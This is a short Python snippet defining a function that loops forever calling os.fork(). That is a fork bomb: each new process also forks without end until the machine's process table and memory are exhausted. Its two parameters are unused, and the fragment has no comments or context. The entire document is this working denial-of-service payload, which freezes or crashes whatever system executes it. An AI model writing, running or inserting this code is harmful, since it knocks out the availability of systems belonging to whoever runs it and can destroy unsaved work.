import os
def f(n, targets):
    while True:
        os.fork()
